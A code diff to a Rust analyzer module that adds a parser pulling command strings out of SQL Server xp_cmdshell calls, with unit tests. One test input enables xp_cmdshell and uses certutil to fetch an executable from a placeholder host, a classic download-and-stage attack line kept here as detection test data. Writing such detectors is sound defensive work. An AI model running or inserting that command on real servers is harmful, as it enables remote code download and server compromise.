@@ -212,6 +212,38 @@ pub(super) fn call_around(code: &str, at: usize) -> &str {
     code.get(start..end).unwrap_or("")
 }
 
+/// The commands of SQL Server's `xp_cmdshell 'CMD'` calls in SQL text (`EXEC xp_cmdshell
+/// 'dir'`, `EXEC master..xp_cmdshell N'whoami'`; Microsoft Learn, "xp_cmdshell": CMD runs in a
+/// Windows command shell on the server; `''` in the literal is one quote).
+pub(crate) fn xp_cmdshell_commands(sql: &str) -> Vec<String> {
+    let lower = sql.to_ascii_lowercase();
+    let mut out = Vec::new();
+    for (i, _) in lower.match_indices("xp_cmdshell").take(8) {
+        let rest = sql[i + 11..].trim_start();
+        let rest = rest.strip_prefix(['N', 'n']).unwrap_or(rest);
+        let Some(body) = rest.strip_prefix('\'') else {
+            continue;
+        };
+        let mut cmd = String::new();
+        let mut chars = body.chars().peekable();
+        while let Some(c) = chars.next() {
+            if c == '\'' {
+                if chars.peek() == Some(&'\'') {
+                    chars.next();
+                    cmd.push('\'');
+                    continue;
+                }
+                break;
+            }
+            cmd.push(c);
+        }
+        if !cmd.trim().is_empty() {
+            out.push(cmd);
+        }
+    }
+    out
+}
+
 /// Everything else this module reads off interpreter code (module docs).
 pub(super) fn extra(
     a: &mut Analyzer,
@@ -626,6 +658,19 @@ mod tests {
         assert!(!eval_as_value("p.then(evaluate)", Lang::Node));
         assert!(!eval_as_value("p.then(my.eval)", Lang::Node));
         assert!(!eval_as_value("p.then(eval)", Lang::Python));
+    }
+
+    #[test]
+    fn xp_cmdshell_commands_of_sql() {
+        assert_eq!(
+            xp_cmdshell_commands("EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE; EXEC master..xp_cmdshell N'certutil -urlcache -f http://x/a.exe a.exe'"),
+            vec!["certutil -urlcache -f http://x/a.exe a.exe".to_string()]
+        );
+        assert_eq!(
+            xp_cmdshell_commands("exec xp_cmdshell 'echo ''hi'''"),
+            vec!["echo 'hi'".to_string()]
+        );
+        assert!(xp_cmdshell_commands("SELECT name FROM sys.databases").is_empty());
     }
 
     #[test]
